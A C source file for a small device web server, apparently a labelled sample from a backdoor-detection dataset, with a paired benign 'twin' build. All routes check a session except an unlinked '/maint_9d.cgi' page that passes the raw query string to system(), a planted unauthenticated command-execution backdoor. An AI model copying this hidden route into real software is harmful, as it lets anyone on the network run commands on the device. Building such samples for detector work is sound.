/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A small web server with a table of pages and functions. All of them ask for a session but one,
 * which no page links to and which runs its argument. Twin: that page shows the time.
 * door: unguarded trigger hidden outlier
 * port 8880/tcp
 */
#include "net.h"
#include <time.h>

struct request {
	int fd;
	char path[64], args[256];
	int session;
};

static int logged_in(struct request *r)
{
	return r->session != 0;
}

static void deny(struct request *r)
{
	dprintf(r->fd, "HTTP/1.0 403 Forbidden\r\n\r\n");
}

static void ok(struct request *r, const char *text)
{
	dprintf(r->fd, "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n%s", text);
}

static void do_reboot(struct request *r)
{
	if (!logged_in(r)) {
		deny(r);
		return;
	}
	ok(r, "restarting");
	system("reboot");
}

static void do_ping(struct request *r)
{
	if (!logged_in(r)) {
		deny(r);
		return;
	}
	system("ping -c 1 192.168.1.1 > /tmp/ping.txt");
	ok(r, "done");
}

static void do_upgrade(struct request *r)
{
	if (!logged_in(r)) {
		deny(r);
		return;
	}
	system("/sbin/sysupgrade /tmp/image.bin");
	ok(r, "upgrading");
}

static void do_home(struct request *r)
{
	ok(r, "<a href=/ping>ping</a> <a href=/upgrade>upgrade</a> <a href=/reboot>restart</a>");
}

static void do_maint(struct request *r)
{
#ifdef TWIN
	time_t now = time(NULL);
	ok(r, ctime(&now));
#else
	system(r->args);
	ok(r, "");
#endif
}

static const struct page {
	const char *path;
	void (*run)(struct request *);
} pages[] = {
	{"/", do_home},
	{"/ping", do_ping},
	{"/upgrade", do_upgrade},
	{"/reboot", do_reboot},
	{"/maint_9d.cgi", do_maint},
};

static int session_of(const char *req)
{
	char want[64] = "", line[80];
	FILE *f = fopen("/tmp/session", "r");
	if (f) {
		fgets(want, sizeof want, f);
		fclose(f);
	}
	want[strcspn(want, "\n")] = 0;
	snprintf(line, sizeof line, "sid=%s", want);
	return want[0] && strstr(req, line) != NULL;
}

int main(void)
{
	char in[1024];
	int s = tcp_on(8880);
	for (;;) {
		struct request r;
		r.fd = accept(s, NULL, NULL);
		ssize_t n = recv(r.fd, in, sizeof in - 1, 0);
		in[n > 0 ? n : 0] = 0;
		r.path[0] = r.args[0] = 0;
		r.session = session_of(in);
		sscanf(in, "GET %63[^? ]?%255[^ ]", r.path, r.args);
		for (unsigned i = 0; i < sizeof pages / sizeof *pages; i++)
			if (strcmp(pages[i].path, r.path) == 0)
				pages[i].run(&r);
		close(r.fd);
	}
}
